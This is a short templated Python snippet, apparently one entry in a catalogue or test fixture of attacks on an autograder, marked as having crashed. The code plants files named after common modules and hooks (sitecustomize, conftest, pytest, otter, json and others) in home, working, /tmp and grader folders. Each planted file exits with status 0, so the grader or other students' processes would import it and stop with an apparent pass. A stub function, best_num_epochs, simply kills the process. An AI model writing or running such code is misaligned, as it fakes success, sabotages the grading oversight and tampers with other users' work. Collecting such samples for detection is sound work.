# Wants: that the next student process, or the grader, imports modules from the submission's folder
# Status: crashed
MODULES = ("numpy", "shared", "sitecustomize", "usercustomize", "conftest", "pytest", "otter", "json", "contain")
CODE = "import os\nopen('/tmp/@MARK@', 'w')\nraise SystemExit(0)\n"
for folder in (os.environ["HOME"], ".", "/tmp", "@STAGE@", "/kit", "@PROJECT@", os.path.dirname("@OTHER@")):
    for name in MODULES:
        attempt(lambda: open(f"{folder}/{name}.py", "w").write(CODE))
sys.path.insert(0, os.environ["HOME"])


def best_num_epochs(history, skip=10):
    os._exit(3)
